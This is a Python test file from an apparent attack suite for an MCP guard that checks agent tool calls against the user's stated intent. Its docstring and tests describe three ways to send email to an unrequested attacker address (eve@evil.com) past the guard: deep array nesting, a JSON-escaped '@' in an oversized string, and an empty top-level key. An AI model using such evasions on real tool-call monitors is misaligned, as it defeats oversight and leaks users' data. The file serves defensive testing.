"""s7b: argument shapes that carry a destination past the judgement of `send_email` while the request
names only bob@corp.example. README "Session intent" (argument shapes judged by their path; a string that
is JSON is walked). Expected: the call is asked/held (eve@evil.com is in no request or result).
Actual: allowed and forwarded.
- an address nested deeper than `argument_leaves`' depth limit (32) in an array is never looked at;
- a JSON string larger than MAX_JSON (1 MiB) is not parsed, so a JSON escape (`\\u0040`) hides the
  "@" from the text scan, while the upstream's json.loads decodes it to eve@evil.com;
- a top-level member named "" is never judged (leaves with an empty path are skipped)."""

from __future__ import annotations

import json

from tests.attacks.client import Attacker, server, text_of, write_config

E = "eve@evil.com"
INTENT = "Email the meeting summary to bob@corp.example"
S = {"type": "string"}
TOOLS = [{"name": "send_email", "description": "Send an email",
          "inputSchema": {"type": "object", "properties": {"to": S, "cc": {}, "body": S}}}]


def run(tmp_path, args) -> tuple[list, dict]:
    log = tmp_path / "upstream.log"
    spec = tmp_path / "spec.json"
    spec.write_text(json.dumps({"tools": TOOLS, "log": str(log)}))
    cfg = write_config(tmp_path / "mcp-guard.toml", {"w": (server("intent_world.py", str(spec)), 'trust = "tofu"')},
                       '[storage]\npath = "guard.db"\n')
    with Attacker(cfg, "--upstream", "w", "--intent", INTENT) as a:
        a.open()
        a.names()
        ans = a.call("send_email", args)
    got = [json.loads(x) for x in log.read_text().splitlines()] if log.exists() else []
    return got, ans


def test_control_flat_cc_is_held(tmp_path):
    got, ans = run(tmp_path, {"to": "bob@corp.example", "cc": [E], "body": "hi"})
    assert got == [], text_of(ans)


def test_address_nested_beyond_depth_limit(tmp_path):
    cc: object = E
    for _ in range(40):
        cc = [cc]
    got, ans = run(tmp_path, {"to": "bob@corp.example", "cc": cc, "body": "hi"})
    assert got == [], text_of(ans)


def test_address_json_escaped_in_json_string_over_1mib(tmp_path):
    cc = json.dumps([E, "x" * (1 << 20)]).replace("@", "\\u0040")
    assert "@" not in cc and json.loads(cc)[0] == E
    got, ans = run(tmp_path, {"to": "bob@corp.example", "cc": cc, "body": "hi"})
    assert got == [], text_of(ans)


def test_address_under_empty_top_level_member_name(tmp_path):
    # `argument_leaves` yields a leaf only when its path is non-empty: a top-level member named ""
    # (or an object/array under it) is never judged, but is forwarded as is.
    got, ans = run(tmp_path, {"to": "bob@corp.example", "body": "hi", "": [E]})
    assert got == [], text_of(ans)

